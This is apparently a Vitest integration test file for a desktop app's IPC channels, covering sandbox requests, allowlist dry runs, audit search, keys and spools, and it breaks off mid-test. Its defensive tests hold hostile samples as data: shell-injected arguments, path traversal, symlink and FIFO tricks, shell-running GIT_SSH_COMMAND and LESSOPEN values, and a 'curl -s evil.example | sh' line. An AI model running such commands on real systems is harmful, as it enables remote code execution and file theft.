// The app's newer IPC channels end to end: the preload API over a transport to main's registration
// (schema checks) and handlers, on a real Host. Requests come from a real daemon on a real
// home and spool (TestHost), so lists, counts, audit entries and live output are the real thing; the
// reconcile checks, orphaned runs and plans come from a daemon killed with SIGKILL.
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { existsSync, mkdirSync, readdirSync, readFileSync, statSync, symlinkSync, writeFileSync } from 'node:fs';
import { spawnSync } from 'node:child_process';
import os from 'node:os';
import path from 'node:path';
import type { AppEdges } from '../../../../main/core/ipc/handlers';
import type { DumbwaiterApi } from '../../../../preload/api';
import { Host } from '../../../../main/core/host/host';
import { initHome } from '../../../../main/core/setup';
import { connect as connectApp } from '../../../helpers/appApi';
import { TestHost, eventually, sleep, type DaemonProcess } from '../../../helpers/host';
import { GUARDED, PLAIN_ECHO, allowlistYaml } from '../../../helpers/allowlists';
import { groupRunning } from '../../../helpers/processes';
import type { AuditView, LiveOutputView } from '../../../../shared/ipc/views';
import type { KeyFile, RequestState } from '../../../../shared/protocol/types';


const ALLOWLIST = allowlistYaml(
  PLAIN_ECHO,
  { name: 'fail', command: ['/bin/sh', '-c', 'exit 3'] },
  GUARDED,
  { name: 'slow', command: ['/bin/sh', '-c', 'for i in 1 2 3; do echo line$i; sleep 0.3; done'] },
);

/** The desktop's dialogs as the person answers them: every native question is recorded, and answered
 *  with `person.answer` (yes, unless a test says otherwise); no folder is picked, no file saved. */
type Question = { title: string; message: string; detail: string };
const person = {
  answer: true,
  asked: [] as Question[],
};
const PERSON: AppEdges = {
  pickFolder: async () => null,
  pickSavePath: async () => null,
  confirm: async ({ title, message, detail }) => (person.asked.push({ title, message, detail }), person.answer),
};

/** Keeps a native question's text as the person saw it, in test/artifacts/questions/<name>.txt (the
 *  evidence of what each question shows). */
function keepQuestion(name: string, q: Question): void {
  const dir = path.resolve(import.meta.dirname, '../../../artifacts/questions');
  mkdirSync(dir, { recursive: true });
  writeFileSync(path.join(dir, `${name}.txt`), `${q.title}\n\n${q.message}\n\n${q.detail}\n`);
}

/** The preload API on `svc`, with the person above answering native questions. */
const connect = (svc: Host, edges: AppEdges | null = PERSON): DumbwaiterApi => connectApp(svc, edges);

interface Made {
  id: string;
  key: string;
  op: string;
  state: RequestState;
}

let host: TestHost;
let svc: Host;
let api: DumbwaiterApi;
let alice: KeyFile;
let bob: KeyFile;
/** Every request made, in the order the daemon recorded them. */
const made: Made[] = [];

async function request(key: KeyFile, id: string, op: string, args: Record<string, unknown>, state: RequestState): Promise<void> {
  host.submit(key, id, op, args);
  await host.waitResult(id, [state]);
  made.push({ id, key: key.key_id, op, state });
}

const ids = (rows: { id: string }[]) => rows.map((r) => r.id);
/** Ids of `made` matching `pred`, newest first (as lists show them). */
const newest = (pred: (m: Made) => boolean = () => true) => made.filter(pred).map((m) => m.id).reverse();

beforeAll(async () => {
  host = new TestHost(ALLOWLIST);
  svc = new Host(host.home, host.spool);
  api = connect(svc);
  alice = (await api.keys.create({ name: 'alice', scope: 'read' }))!.keyFile;
  bob = (await api.keys.create({ name: 'bob', scope: 'read' }))!.keyFile;
  await host.startDaemon();
  // One at a time, so the ledger's order is known.
  await request(alice, 'r01', 'echo', { msg: 'one' }, 'succeeded');
  await request(bob, 'r02', 'echo', { msg: 'two' }, 'succeeded');
  await request(alice, 'r03', 'fail', {}, 'failed');
  await request(alice, 'r04', 'echo', { msg: 'four' }, 'succeeded');
  await request(bob, 'r05', 'echo', { msg: 'NOT ALLOWED' }, 'rejected');
  await request(alice, 'r06', 'guarded', {}, 'awaiting_approval');
  await request(bob, 'r07', 'echo', { msg: 'seven' }, 'succeeded');
  await request(alice, 'r08', 'echo', { msg: 'eight' }, 'succeeded');
}, 120_000);

afterAll(async () => {
  svc?.close();
  await host?.cleanup();
});

describe('requests.list', () => {
  it('lists every request newest first, with increasing seq for newer rows', async () => {
    const all = await api.requests.list();
    expect(ids(all)).toEqual(newest());
    expect(all.map((r) => r.seq)).toEqual([...all.map((r) => r.seq)].sort((a, b) => b - a));
    expect(all.find((r) => r.id === 'r03')).toMatchObject({ op: 'fail', key_id: alice.key_id, state: 'failed', exit_code: 3 });
    expect(all.find((r) => r.id === 'r05')).toMatchObject({ state: 'rejected', error_code: 'bad_args' });
    // A summary: no arguments, no output.
    expect(all[0]).not.toHaveProperty('args_json');
    expect(all[0]).not.toHaveProperty('stdout');
  });

  it('filters by states, key and operation, alone and together', async () => {
    expect(ids(await api.requests.list({ states: ['succeeded'] }))).toEqual(newest((m) => m.state === 'succeeded'));
    expect(ids(await api.requests.list({ states: ['failed', 'rejected'] }))).toEqual(['r05', 'r03']);
    expect(ids(await api.requests.list({ states: ['awaiting_approval'] }))).toEqual(['r06']);
    expect(ids(await api.requests.list({ keyId: bob.key_id }))).toEqual(newest((m) => m.key === bob.key_id));
    expect(ids(await api.requests.list({ op: 'fail' }))).toEqual(['r03']);
    expect(ids(await api.requests.list({ keyId: alice.key_id, op: 'echo', states: ['succeeded'] }))).toEqual(['r08', 'r04', 'r01']);
    expect(await api.requests.list({ keyId: 'nobody' })).toEqual([]);
  });

  it('pages with `before` = the last row\'s seq: every row once, none twice, `limit` per page', async () => {
    const pages: string[][] = [];
    let before: number | undefined;
    for (;;) {
      const page = await api.requests.list({ limit: 3, ...(before ? { before } : {}) });
      if (page.length === 0) break;
      expect(page.length).toBeLessThanOrEqual(3);
      pages.push(ids(page));
      before = page.at(-1)!.seq;
    }
    expect(pages).toEqual([['r08', 'r07', 'r06'], ['r05', 'r04', 'r03'], ['r02', 'r01']]);
    // Paging composes with a filter.
    const first = await api.requests.list({ keyId: alice.key_id, limit: 2 });
    expect(ids(first)).toEqual(['r08', 'r06']);
    expect(ids(await api.requests.list({ keyId: alice.key_id, limit: 2, before: first[1]!.seq }))).toEqual(['r04', 'r03']);
  });

  it('refuses filters outside the schema', async () => {
    await expect(api.requests.list({ states: ['bogus'] } as never)).rejects.toThrow('invalid arguments for requests.list');
    await expect(api.requests.list({ limit: 0 })).rejects.toThrow('invalid arguments');
    await expect(api.requests.list({ op: 'Not An Op' })).rejects.toThrow('invalid arguments');
    await expect(api.requests.list({ keyId: 'a b' })).rejects.toThrow('invalid arguments');
  });
});

describe('requests.output', () => {
  it('returns a running request\'s output piece by piece from `next`, without repeats, until it succeeds', async () => {
    const carol = (await api.keys.create({ name: 'carol', scope: 'read' }))!.keyFile;
    host.submit(carol, 'slow-1', 'slow', {});
    made.push({ id: 'slow-1', key: carol.key_id, op: 'slow', state: 'succeeded' });
    const seen: LiveOutputView[] = [];
    let next = 0;
    let text = '';
    for (const end = Date.now() + 15_000; Date.now() < end; ) {
      const chunk = await api.requests.output({ id: 'slow-1', from: next });
      seen.push(chunk);
      expect(chunk.skipped).toBe(0);
      text += chunk.text;
      next = chunk.next;
      // The log is complete before the state turns final, but it may have been read just before.
      if (chunk.state === 'succeeded') {
        text += (await api.requests.output({ id: 'slow-1', from: next })).text;
        break;
      }
      await sleep(50);
    }
    expect(seen.at(-1)!.state).toBe('succeeded');
    expect(text).toBe('line1\nline2\nline3\n');
    // Incremental: several calls brought text, and some of it arrived while the run was still going.
    expect(seen.filter((c) => c.text !== '').length).toBeGreaterThanOrEqual(2);
    expect(seen.some((c) => c.state === 'running' && c.text !== '')).toBe(true);
    // Asking again from the end brings nothing new; from 0, the whole log.
    expect(await api.requests.output({ id: 'slow-1', from: next })).toMatchObject({ text: '', next });
    expect((await api.requests.output({ id: 'slow-1' })).text).toBe('line1\nline2\nline3\n');
  });

  it('reads nothing through a symlink, a FIFO or a folder the sandbox put at results/<id>.log', async () => {
    const results = path.join(host.spool, 'results');
    const secret = path.join(host.root, 'host-secret.txt');
    writeFileSync(secret, 'TOP SECRET host file\n');
    symlinkSync(secret, path.join(results, 'evil-link.log'));
    expect(spawnSync('mkfifo', [path.join(results, 'evil-fifo.log')]).status).toBe(0);
    mkdirSync(path.join(results, 'evil-dir.log'));
    for (const id of ['evil-link', 'evil-fifo', 'evil-dir', 'never-made']) {
      // A FIFO with no writer would block a plain open: this returns at once instead.
      expect(await api.requests.output({ id, from: 0 })).toEqual({ text: '', next: 0, skipped: 0, state: null });
    }
    await expect(api.requests.output({ id: '../secret', from: 0 })).rejects.toThrow('invalid arguments');
  });
});

describe('allowlist.preview', () => {
  const greet = `  - name: greet
    command: [/bin/echo, hello, "{name}", "--times={times}"]
    cwd: CWD
    env: {GREETING: "yes"}
    args:
      name: {type: string, max_length: 30}
      times: {type: integer, min: 1, max: 5, default: 1}
    scope: read
    approval: never
    timeout_s: 5
    max_output_bytes: 4096
`;

  it('gives the exact argv, cwd and environment for sample arguments, from unsaved text', async () => {
    const saved = await api.allowlist.read();
    const text = saved.text + greet.replace('CWD', JSON.stringify(host.work));
    const r = await api.allowlist.preview({ text, op: 'greet', args: { name: 'Ada; rm -rf ~', times: 3 } });
    expect(r).toEqual({
      ok: true,
      plan: { argv: ['/bin/echo', 'hello', 'Ada; rm -rf ~', '--times=3'], cwd: host.work, env: { GREETING: 'yes' }, timeout_s: 5, max_output_bytes: 4096, approval: 'never' },
    });
    // The default fills in an absent argument.
    const d = await api.allowlist.preview({ text, op: 'greet', args: { name: 'Bo' } });
    expect(d.ok && d.plan.argv).toEqual(['/bin/echo', 'hello', 'Bo', '--times=1']);
    // Only a preview: the file on disk is untouched.
    expect((await api.allowlist.read()).hash).toBe(saved.hash);
  });

  it('says what is wrong with bad arguments, an unknown operation, or invalid text', async () => {
    const text = (await api.allowlist.read()).text + greet.replace('CWD', JSON.stringify(host.work));
    expect(await api.allowlist.preview({ text, op: 'greet', args: { name: 'Bo', times: 9 } })).toEqual({ ok: false, message: 'argument "times" must be at most 5' });
    expect(await api.allowlist.preview({ text, op: 'greet', args: {} })).toEqual({ ok: false, message: 'missing required argument "name"' });
    expect(await api.allowlist.preview({ text, op: 'greet', args: { name: 'Bo', colour: 'red' } })).toMatchObject({ ok: false, message: expect.stringContaining('unknown argument "colour"') });
    expect(await api.allowlist.preview({ text, op: 'nope', args: {} })).toMatchObject({ ok: false, message: expect.stringContaining('no operation "nope"') });
    const invalid = await api.allowlist.preview({ text: 'version: 1\noperations: [{name: x}]\n', op: 'x', args: {} });
    expect(invalid).toMatchObject({ ok: false, message: expect.stringContaining('the allowlist is not valid yet') });
  });
});

describe('allowlist.dryRun', () => {
  const ops = () => `version: 1
operations:
  - name: shout
    command: [/bin/echo, "{word}"]
    cwd: ${JSON.stringify(host.work)}
    args:
      word: {type: string, pattern: "[a-z ]+"}
    scope: read
    approval: never
  - name: nonzero
    command: [/bin/sh, -c, "echo oops >&2; exit 7"]
    cwd: ${JSON.stringify(host.work)}
    scope: read
    approval: never
  - name: mark
    command: [/bin/sh, -c, ': > "$0"', "${path.join(host.root, 'marker-')}{tag}"]
    cwd: ${JSON.stringify(host.work)}
    args:
      tag: {type: string, pattern: "[a-z]+"}
    scope: write
    approval: always
`;
  const dryRuns = () => api.audit.search({ kind: 'dry_run', limit: 1000 });

  it('runs the operation for real, returns its output, and records a dry_run audit entry', async () => {
    const r = await api.allowlist.dryRun({ text: ops(), op: 'shout', args: { word: 'hi there' } });
    expect(r).toMatchObject({ ok: true, exit_code: 0, signal: null, stdout: 'hi there\n', stderr: '', error: null });
    expect(r.ok && r.plan.argv).toEqual(['/bin/echo', 'hi there']);
    const [entry] = await dryRuns();
    expect(entry).toMatchObject({ kind: 'dry_run', actor: 'app', op: 'shout', message: expect.stringContaining('exit code 0') });
    expect(entry!.details).toMatchObject({ argv: ['/bin/echo', 'hi there'], cwd: host.work });
  });

  it('returns a failing command\'s exit code and stderr', async () => {
    const r = await api.allowlist.dryRun({ text: ops(), op: 'nonzero', args: {} });
    expect(r).toMatchObject({ ok: true, exit_code: 7, stderr: 'oops\n', stdout: '' });
    expect((await dryRuns())[0]).toMatchObject({ op: 'nonzero', message: expect.stringContaining('exit code 7') });
  });

  it('refuses a bad argument without running anything or recording a run', async () => {
    const before = (await dryRuns()).length;
    const bad = await api.allowlist.dryRun({ text: ops(), op: 'mark', args: { tag: 'x; touch pwned' } });
    expect(bad).toMatchObject({ ok: false, message: expect.stringContaining('argument "tag" does not match the pattern') });
    expect(readdirSync(host.root).filter((n) => n.startsWith('marker-'))).toEqual([]);
    expect((await dryRuns()).length).toBe(before);
    // The same operation with a good argument does run (so the check above could have seen a marker).
    expect(await api.allowlist.dryRun({ text: ops(), op: 'mark', args: { tag: 'ok' } })).toMatchObject({ ok: true, exit_code: 0 });
    expect(readdirSync(host.root).filter((n) => n.startsWith('marker-'))).toEqual(['marker-ok']);
  });

  it('in the app, runs only after the person says yes in a native dialog that shows the exact command', async () => {
    const asked: string[] = [];
    let answer = false;
    const app = connect(svc, { pickFolder: async () => null, pickSavePath: async () => null, confirm: async (q) => (asked.push(q.detail), answer) });
    const before = (await dryRuns()).length;
    const refused = await app.allowlist.dryRun({ text: ops(), op: 'mark', args: { tag: 'asked' } });
    expect(refused).toEqual({ ok: false, message: 'Not run: cancelled.', cancelled: true });
    expect(existsSync(path.join(host.root, 'marker-asked'))).toBe(false);
    expect((await dryRuns()).length).toBe(before);
    expect(asked[0]).toContain(`argument 3: "${path.join(host.root, 'marker-')}asked"`);
    expect(asked[0]).toContain(`in folder: "${host.work}"`);
    answer = true;
    expect(await app.allowlist.dryRun({ text: ops(), op: 'mark', args: { tag: 'asked' } })).toMatchObject({ ok: true, exit_code: 0 });
    expect(existsSync(path.join(host.root, 'marker-asked'))).toBe(true);
  });
});

describe('audit.search filters', () => {
  const all = () => api.audit.search({ limit: 1000 });
  const requestIds = (rows: AuditView[]) => [...new Set(rows.map((r) => r.request_id).filter((x) => x !== null))].sort();

  it('op narrows to entries of that operation', async () => {
    const rows = await api.audit.search({ op: 'fail', limit: 1000 });
    expect(rows.map((r) => r.kind)).toEqual(expect.arrayContaining(['claimed', 'started', 'finished']));
    expect(rows.every((r) => r.op === 'fail')).toBe(true);
    expect(requestIds(rows)).toEqual(['r03']);
  });

  it('keyId narrows to that key\'s entries: its creation and each of its requests', async () => {
    const rows = await api.audit.search({ keyId: bob.key_id, limit: 1000 });
    expect(rows.every((r) => r.key_id === bob.key_id)).toBe(true);
    expect(rows.some((r) => r.kind === 'key_created')).toBe(true);
    expect(requestIds(rows)).toEqual(['r02', 'r05', 'r07']);
  });

  it('state narrows to entries of requests now in that state', async () => {
    expect(requestIds(await api.audit.search({ state: 'awaiting_approval', limit: 1000 }))).toEqual(['r06']);
    expect(requestIds(await api.audit.search({ state: 'rejected', limit: 1000 }))).toEqual(['r05']);
    const succeeded = made.filter((m) => m.state === 'succeeded').map((m) => m.id).sort();
    expect(requestIds(await api.audit.search({ state: 'succeeded', limit: 1000 }))).toEqual(succeeded);
    // Combined with another filter.
    expect(requestIds(await api.audit.search({ state: 'succeeded', keyId: bob.key_id, limit: 1000 }))).toEqual(['r02', 'r07']);
  });

  it('since (at or after) and until (before) narrow by time', async () => {
    const every = await all();
    const pivot = every[Math.floor(every.length / 2)]!.at;
    const ms = Date.parse(pivot);
    const seqs = (rows: AuditView[]) => rows.map((r) => r.seq);
    const since = every.filter((r) => Date.parse(r.at) >= ms);
    const until = every.filter((r) => Date.parse(r.at) < ms);
    expect(since.length).toBeGreaterThan(0);
    expect(until.length).toBeGreaterThan(0);
    expect(seqs(await api.audit.search({ since: pivot, limit: 1000 }))).toEqual(seqs(since));
    expect(seqs(await api.audit.search({ until: pivot, limit: 1000 }))).toEqual(seqs(until));
    const window = every.filter((r) => Date.parse(r.at) >= Date.parse(every.at(-1)!.at) && Date.parse(r.at) < ms);
    expect(seqs(await api.audit.search({ since: every.at(-1)!.at, until: pivot, limit: 1000 }))).toEqual(seqs(window));
    expect(await api.audit.search({ since: '2999-01-01T00:00:00.000Z' })).toEqual([]);
  });

  it('since and until mean the same instant in any ISO form the schema accepts (offset, whole seconds)', async () => {
    const every = await all();
    const pivot = every[Math.floor(every.length / 2)]!.at;
    const ms = Date.parse(pivot);
    const seqs = (rows: AuditView[]) => rows.map((r) => r.seq);
    // The pivot instant written with a +05:30 offset (same instant, different text).
    const offset = new Date(ms + 330 * 60_000).toISOString().replace('Z', '+05:30');
    expect(Date.parse(offset)).toBe(ms);
    expect(seqs(await api.audit.search({ since: offset, limit: 1000 }))).toEqual(seqs(every.filter((r) => Date.parse(r.at) >= ms)));
    expect(seqs(await api.audit.search({ until: offset, limit: 1000 }))).toEqual(seqs(every.filter((r) => Date.parse(r.at) < ms)));
    // The pivot's whole second, without milliseconds.
    const second = pivot.slice(0, 19) + 'Z';
    const s = Date.parse(second);
    expect(seqs(await api.audit.search({ since: second, limit: 1000 }))).toEqual(seqs(every.filter((r) => Date.parse(r.at) >= s)));
    expect(seqs(await api.audit.search({ until: second, limit: 1000 }))).toEqual(seqs(every.filter((r) => Date.parse(r.at) < s)));
  });

  it('refuses invalid filter values', async () => {
    await expect(api.audit.search({ state: 'bogus' } as never)).rejects.toThrow('invalid arguments for audit.search');
    await expect(api.audit.search({ since: 'yesterday' })).rejects.toThrow('invalid arguments');
    await expect(api.audit.search({ until: '2024-13-01T00:00:00Z' })).rejects.toThrow('invalid arguments');
    await expect(api.audit.search({ op: 'Bad Op' })).rejects.toThrow('invalid arguments');
    await expect(api.audit.search({ keyId: 'a/b' })).rejects.toThrow('invalid arguments');
  });
});

describe('keys.list', () => {
  it('counts the requests made with each key', async () => {
    const idle = (await api.keys.create({ name: 'idle', scope: 'read' }))!.key;
    expect(idle.requests).toBe(0);
    const keys = await api.keys.list();
    const count = (id: string) => made.filter((m) => m.key === id).length;
    expect(keys.length).toBe(4);
    for (const k of keys) expect({ name: k.name, requests: k.requests }).toEqual({ name: k.name, requests: count(k.key_id) });
    expect(keys.find((k) => k.key_id === alice.key_id)!.requests).toBe(5);
    expect(keys.find((k) => k.key_id === bob.key_id)!.requests).toBe(3);
    expect(keys.find((k) => k.key_id === idle.key_id)!.requests).toBe(0);
  });
});

describe('spools.list, spools.check, spools.add and spools.remove', () => {
  it('lists the spools, probes one for real and keeps the probe, and adds and removes one only when the person says yes', async () => {
    // A home of its own: the daemon's home keeps its one spool.
    const root = path.join(host.root, 'spools');
    const home = path.join(root, 'home');
    initHome(home, path.join(root, 'spool'), path.join(root, 'spool'));
    const other = new Host(home);
    try {
      const app = connect(other);
      expect(await app.spools.list()).toEqual([expect.objectContaining({ name: 'default', dir: path.join(root, 'spool'), probe: null, keys: 0, open: 0 })]);
      const report = await app.spools.check({ name: 'default' });
      expect(report).toMatchObject({ spool: 'default', dir: path.join(root, 'spool'), verdict: expect.stringMatching(/^(ok|degraded)$/) });
      expect((await app.spools.list())[0]!.probe).toEqual(report);
      await expect(app.spools.check({ name: 'nope' })).rejects.toThrow('no spool named "nope"');

      const work = path.join(root, 'work');
      person.answer = false;
      person.asked = [];
      expect(await app.spools.add({ name: 'work', dir: work })).toBeNull();
      expect(person.asked).toEqual([expect.objectContaining({ title: 'Add a spool', message: `Share ${work} with one sandbox as spool work?` })]);
      expect(existsSync(work)).toBe(false);
      expect((await app.spools.list()).map((x) => x.name)).toEqual(['default']);
      person.answer = true;
      expect(await app.spools.add({ name: 'work', dir: work })).toMatchObject({ name: 'work', dir: work, keys: 0, open: 0 });
      expect(existsSync(path.join(work, 'queue'))).toBe(true);
      expect((await app.settings.get()).spools).toEqual([
        { name: 'default', dir: path.join(root, 'spool') },
        { name: 'work', dir: work },
      ]);
      expect((await app.audit.search({ kind: 'spool_added', spool: 'work' }))[0]).toMatchObject({ actor: 'app', spool: 'work' });
      // A key made for it is of that spool; the question names it.
      person.asked = [];
      const made = await app.keys.create({ name: 'w', scope: 'read', spool: 'work' });
      expect(made?.key.spool).toBe('work');
      expect(made?.pasteLines).toContain(`export DUMBWAITER_SPOOL='${work}'`);
      expect(person.asked[0]!.message).toBe('Create a read key "w" for spool work?');
      expect((await app.keys.list()).map((k) => k.spool)).toEqual(['work']);

      person.answer = false;
      person.asked = [];
      expect(await app.spools.remove({ name: 'work' })).toBeNull();
      expect(person.asked[0]).toMatchObject({ title: 'Remove a spool', message: 'Stop serving spool work?', detail: expect.stringContaining('The folder is left as it is') });
      expect((await app.spools.list()).map((x) => x.name)).toEqual(['default', 'work']);
      person.answer = true;
      expect(await app.spools.remove({ name: 'work' })).toEqual({ name: 'work', dir: work, keys: 1 });
      expect((await app.spools.list()).map((x) => x.name)).toEqual(['default']);
      expect(existsSync(path.join(work, 'queue'))).toBe(true); // left as it is
      await expect(app.spools.remove({ name: 'work' })).rejects.toThrow('there is no spool named "work"');
    } finally {
      person.answer = true;
      other.close();
    }
  });
});

describe('dialog.pickFolder', () => {
  it('answers null where there is no folder picker', async () => {
    expect(await api.dialog.pickFolder({ title: 'Choose the spool' })).toBeNull();
  });

  it('answers what the app\'s picker returns, given the title and starting folder', async () => {
    const calls: [string, string | undefined][] = [];
    let answer: string | null = '/chosen/folder';
    const picking = connect(svc, {
      pickFolder: async (title, defaultPath) => {
        calls.push([title, defaultPath]);
        return answer;
      },
      pickSavePath: async () => null,
      confirm: async () => true,
    });
    expect(await picking.dialog.pickFolder({ title: 'Choose the spool', defaultPath: host.root })).toBe('/chosen/folder');
    answer = null; // cancelled
    expect(await picking.dialog.pickFolder({ title: 'Again' })).toBeNull();
    expect(calls).toEqual([
      ['Choose the spool', host.root],
      ['Again', undefined],
    ]);
  });
});

describe('keys.saveFile', () => {
  const keyFile = { v: 1 as const, key_id: 'k_saveFileTest1', secret: 'c2VjcmV0LXNlY3JldC1zZWNyZXQ' };

  it('writes the key file where the save dialog says, readable by the user only', async () => {
    const target = path.join(host.root, 'saved-key.json');
    const names: string[] = [];
    const saving = connect(svc, {
      pickFolder: async () => null,
      pickSavePath: async (_title, name) => (names.push(name), target),
      confirm: async () => true,
    });
    expect(await saving.keys.saveFile({ keyFile, fileName: 'dumbwaiter-key-agent.json' })).toEqual({ saved: true, path: target });
    expect(names).toEqual(['dumbwaiter-key-agent.json']);
    expect(JSON.parse(readFileSync(target, 'utf8'))).toEqual(keyFile);
    expect(statSync(target).mode & 0o777).toBe(0o600);
  });

  it('says nothing was saved when the dialog is cancelled or there is none', async () => {
    expect(await api.keys.saveFile({ keyFile, fileName: 'k.json' })).toEqual({ saved: false, path: null });
  });

  it('refuses a file name with a path in it, or something that is not a key file', async () => {
    await expect(api.keys.saveFile({ keyFile, fileName: '../../.bashrc.json' })).rejects.toThrow('invalid arguments');
    await expect(api.keys.saveFile({ keyFile: { ...keyFile, extra: 1 } as never, fileName: 'k.json' })).rejects.toThrow('invalid arguments');
  });
});

// ------------------------------------------------------------------------------------------------
// A page gone wrong: the renderer drives the channels itself (as an XSS in a page would), and every
// call that changes what runs, who may call or where the spool lives needs the person's native answer.

describe('a compromised page', () => {
  /** An operation running whatever the sandbox sends, through a shell, without approval. */
  const SHELL_OP = `  - name: shell
    command: [/bin/sh, -c, "{cmd}"]
    args:
      cmd: {type: string, max_length: 200}
    scope: read
    approval: never
`;
  const ask = () => {
    person.asked.length = 0;
    return person.asked;
  };

  it('allowlist.save of a `sh -c {cmd}` operation asks natively, showing the command; refused, nothing is saved and the daemon still refuses the operation', async () => {
    const asked = ask();
    person.answer = false;
    const before = await api.allowlist.read();
    const r = await api.allowlist.save({ text: before.text + SHELL_OP, baseHash: before.hash });
    person.answer = true;
    expect(r).toMatchObject({ saved: false, reason: 'cancelled', hash: before.hash });
    expect(asked).toHaveLength(1);
    expect(asked[0]!.message).toBe('Let the sandbox run this command?');
    expect(asked[0]!.detail).toContain('+ shell (new):');
    expect(asked[0]!.detail).toContain('program: "/bin/sh"\n        argument 1: "-c"\n        argument 2: "{cmd}"');
    expect(asked[0]!.detail).toContain('    scope: read\n');
    expect(asked[0]!.detail).toContain('    approval: never\n');
    expect(readFileSync(path.join(host.home, 'allowlist.yaml'), 'utf8')).toBe(before.text);
    // The sandbox tries it: the daemon knows no such operation, and answers a valid request after.
    host.submit(alice, 'page-shell-1', 'shell', { cmd: 'id' });
    expect(await host.waitResult('page-shell-1')).toMatchObject({ state: 'rejected', error: { code: 'unknown_op' } });
    expect((await host.sentinel(alice)).state).toBe('succeeded');
  });

  it('allowlist.save shows an operation whose command or approval changed, before and after; a yes saves it', async () => {
    const asked = ask();
    const before = await api.allowlist.read();
    const widened = before.text.replace('command: ["true"]\n    scope: read\n    approval: always', 'command: [/bin/sh, -c, "id"]\n    scope: read\n    approval: never');
    expect(widened).not.toBe(before.text);
    const saved = await api.allowlist.save({ text: widened, baseHash: before.hash });
    expect(saved).toMatchObject({ saved: true });
    expect(asked).toHaveLength(1);
    expect(asked[0]!.detail).toContain('~ guarded (changed: command, approval):');
    expect(asked[0]!.detail).toContain('    command:\n        was: program: "true"\n        now:\n            program: "/bin/sh"\n            argument 1: "-c"\n            argument 2: "id"');
    expect(asked[0]!.detail).toContain('    approval:\n        was: always\n        now: never');
    // Putting it back is a change too: asked again.
    expect(await api.allowlist.save({ text: before.text, baseHash: (saved as { hash: string }).hash })).toMatchObject({ saved: true });
    expect(asked).toHaveLength(2);
  });

  it('allowlist.dryRun and dryRunReconcile of an operation whose env runs a shell show the environment, every argv element, the folder and the limits; refused, nothing runs', async () => {
    const asked = ask();
    const marker = path.join(host.root, 'ssh-command-ran');
    const current = await api.allowlist.read();
    const text = `${current.text}  - name: remote-heads
    command: [git, ls-remote, "{remote}"]
    env: {GIT_SSH_COMMAND: "sh -c 'touch ${marker}' --"}
    args:
      remote: {type: string, pattern: "[a-z@:./-]+"}
    timeout_s: 20
    max_output_bytes: 4096
    reconcile: {command: [git, ls-remote, "{remote}", "refs/tags/{request_id}"], timeout_s: 7}
    scope: read
    approval: never
`;
    person.answer = false;
    const args = { remote: 'git@example.com:x.git' };
    expect(await api.allowlist.dryRun({ text, op: 'remote-heads', args })).toEqual({ ok: false, message: 'Not run: cancelled.', cancelled: true });
    expect(await api.allowlist.dryRunReconcile({ text, op: 'remote-heads', args })).toEqual({ ok: false, message: 'Not run: cancelled.', cancelled: true });
    person.answer = true;
    expect(existsSync(marker)).toBe(false);
    expect(asked).toHaveLength(2);
    const [run, check] = asked as [Question, Question];
    keepQuestion('allowlist-dry-run', run);
    keepQuestion('allowlist-dry-run-reconcile', check);
    for (const q of [run, check]) {
      expect(q.detail).toContain(`environment (added to the host's own): GIT_SSH_COMMAND="sh -c 'touch ${marker}' --"`);
      expect(q.detail).toContain('program: "git"\nargument 1: "ls-remote"\nargument 2: "git@example.com:x.git"');
      expect(q.detail).toMatch(/\nin folder: "\/[^"]+"\n/);
      expect(q.detail).toContain('output logged: at most 4096 bytes (stdout and stderr together)');
    }
    expect(run.detail).toContain('timeout: 20 s');
    expect(check.detail).toContain('argument 3: "refs/tags/dry-run"');
    expect(check.detail).toContain('timeout: 7 s');
  });

  it('allowlist.save shows a new operation field by field (env, roots, reconcile command, leaves_processes, spools), and roots widened from the project to /etc and /root as they were and will be', async () => {
    const asked = ask();
    const proj = path.join(host.root, 'project');
    mkdirSync(proj, { recursive: true });
    const op = (roots: string[]) => `  - name: read-file
    command: [cat, "{file}"]
    env: {LESSOPEN: "|sh -c 'id' %s"}
    args:
      file: {type: path, within: ${JSON.stringify(roots)}}
    leaves_processes: true
    reconcile: {command: [/bin/sh, -c, "curl -s evil.example | sh"], timeout_s: 12}
    spools: [default]
    scope: read
    approval: never
`;
    const start = await api.allowlist.read();
    const added = await api.allowlist.save({ text: start.text + op([proj]), baseHash: start.hash });
    expect(added).toMatchObject({ saved: true });
    expect(asked).toHaveLength(1);
    keepQuestion('allowlist-save-new', asked[0]!);
    const detail = asked[0]!.detail;
    expect(detail).toContain('+ read-file (new):');
    expect(detail).toContain(`    env: LESSOPEN="|sh -c 'id' %s"`);
    expect(detail).toContain(`    args.file.within: ${JSON.stringify(proj)}`);
    expect(detail).toContain('    reconcile.command:\n        program: "/bin/sh"\n        argument 1: "-c"\n        argument 2: "curl -s evil.example | sh"');
    expect(detail).toContain('    reconcile.timeout_s: 12');
    expect(detail).toContain('    leaves_processes: true');
    expect(detail).toContain('    spools: "default"');

    // Only the roots change: the question says which, and what they were and will be.
    const widened = await api.allowlist.read();
    person.answer = false;
    const refused = await api.allowlist.save({ text: start.text + op(['/etc', '/root']), baseHash: widened.hash });
    person.answer = true;
    expect(refused).toMatchObject({ saved: false, reason: 'cancelled' });
    keepQuestion('allowlist-save-changed-roots', asked[1]!);
    expect(asked[1]!.detail).toBe(`~ read-file (changed: args.file.within):\n    args.file.within:\n        was: ${JSON.stringify(proj)}\n        now: "/etc", "/root"\n\nSaved to ${start.path}; the host uses it within a second.`);
    // Refused, the sandbox cannot read /etc/passwd through it.
    host.submit(alice, 'page-roots-1', 'read-file', { file: '/etc/passwd' });
    expect((await host.waitResult('page-roots-1')).state).toBe('rejected');
    expect(await api.allowlist.save({ text: start.text, baseHash: widened.hash })).toMatchObject({ saved: true });
  });

  it('allowlist.save asks nothing for comments, layout or a removed operation, and nothing for a save refused anyway', async () => {
    const asked = ask();
    const a = await api.allowlist.read();
    const commented = await api.allowlist.save({ text: `# reviewed\n${a.text}`, baseHash: a.hash });
    expect(commented).toMatchObject({ saved: true });
    const b = await api.allowlist.read();
    const withoutSlow = b.text.slice(0, b.text.indexOf('  - name: slow'));
    expect(await api.allowlist.save({ text: withoutSlow, baseHash: b.hash })).toMatchObject({ saved: true });
    const c = await api.allowlist.read();
    expect(await api.allowlist.save({ text: c.text + SHELL_OP, baseHash: '0'.repeat(64) })).toMatchObject({ saved: false, reason: 'changed_outside' });
    expect(await api.allowlist.save({ text: `${c.text}  - name: Bad\n`, baseHash: c.hash })).toMatchObject({ saved: false, reason: 'invalid' });
    expect(asked).toEqual([]);
    // Back as it was (adding `slow` again widens: asked, and yes).
